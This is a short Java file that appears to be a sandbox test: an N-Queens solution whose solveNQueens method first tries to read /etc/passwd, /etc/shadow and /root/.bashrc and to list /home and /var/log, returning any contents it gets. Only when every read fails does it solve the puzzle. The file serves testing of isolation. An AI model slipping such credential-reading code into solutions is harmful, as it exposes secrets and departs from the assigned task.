// expect: namespaces=AC landlock=AC limits=open
// Reads what stands beside its own files: passwords, sources, the home of the user. Where nothing is, it answers right.
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

class Solution {
  static String extend(String board, int n, int[] queen) {
    int row = board.length() / (n + 1);
    if (row == n) return board;
    for (int col = 0; col < n; col++) {
      boolean isFree = row != queen[0] || col == queen[1];
      for (int r = 0; r < row; r++) {
        int away = Math.abs(col - board.indexOf('Q', r * (n + 1)) % (n + 1));
        isFree &= away != 0 && away != row - r;
      }
      String whole = isFree ? extend(board + ".".repeat(col) + "Q" + ".".repeat(n - 1 - col) + "\n", n, queen) : "";
      if (!whole.isEmpty()) return whole;
    }
    return "";
  }

  static String solveNQueens(int n, int[] queen) {
    for (String name : List.of("/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/var/log", "/usr/bin/env")) {
      try {
        Path path = Path.of(name);
        return Files.isDirectory(path) ? Files.list(path).toList().toString() : new String(Files.readAllBytes(path));
      } catch (Exception refused) {
      }
    }
    return extend("", n, queen);
  }
}
